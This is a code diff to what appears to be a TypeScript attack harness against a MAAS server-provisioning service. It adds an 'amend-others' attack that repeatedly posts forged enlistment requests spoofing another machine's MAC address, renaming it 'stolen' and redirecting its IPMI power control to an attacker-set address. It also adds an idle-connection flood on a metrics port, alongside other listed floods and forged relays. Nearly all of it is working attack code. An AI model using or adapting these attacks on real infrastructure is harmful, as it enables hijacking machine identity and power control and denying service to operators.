@@ -12,6 +12,7 @@ import { authorization } from './oauth.ts';
 
 const BOOT_PORT = 5248;
 const API_PORT = 5240;
+const METRICS_PORT = 5249;
 /** Requests that are written at once: more than a chunk that is read. */
 const PIPELINED = 2000;
 const TICK_MS = 5;
@@ -219,6 +220,25 @@ async function enlistAsOthers(others: readonly string[]): Promise<void> {
   }
 }
 
+/** Reports a machine that somebody else has reported, again and again, as something else. */
+async function amendOthers(mac: string): Promise<void> {
+  const lies = { hostname: 'stolen', power_type: 'ipmi', power_parameters: '{"power_address":"10.77.8.64"}' };
+  const form = new URLSearchParams({
+    op: 'new',
+    architecture: 'arm64/generic',
+    mac_addresses: mac,
+    ...lies,
+  }).toString();
+  for (let index = 0; !isOver(); index += 1) {
+    const socket = connect({ host: rack, port: BOOT_PORT, localAddress: addresses[index % addresses.length] ?? first });
+    socket.on('error', () => undefined);
+    socket.resume();
+    post(socket, '/MAAS/api/1.0/nodes/', form);
+    if (index > 20) tell();
+    await sleep(50);
+  }
+}
+
 const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'discover-flood': () => discoverFlood(1000),
   'forged-relay': () => forgeRelay(500),
@@ -299,6 +319,8 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   },
   'rack-flood': () =>
     holdConnections(API_PORT, 64, (socket) => post(socket, '/MAAS/api/2.0/nodegroups/', registration())),
+  'metrics-idle': () => holdConnections(METRICS_PORT, 200, () => undefined),
+  'amend-others': () => amendOthers(further),
   'enlist-as-others': () => enlistAsOthers(further.split(',')),
   'enlist-flood': () =>
     holdConnections(BOOT_PORT, 64, (socket) => post(socket, '/MAAS/api/1.0/nodes/', `op=new&${enlistment()}`)),
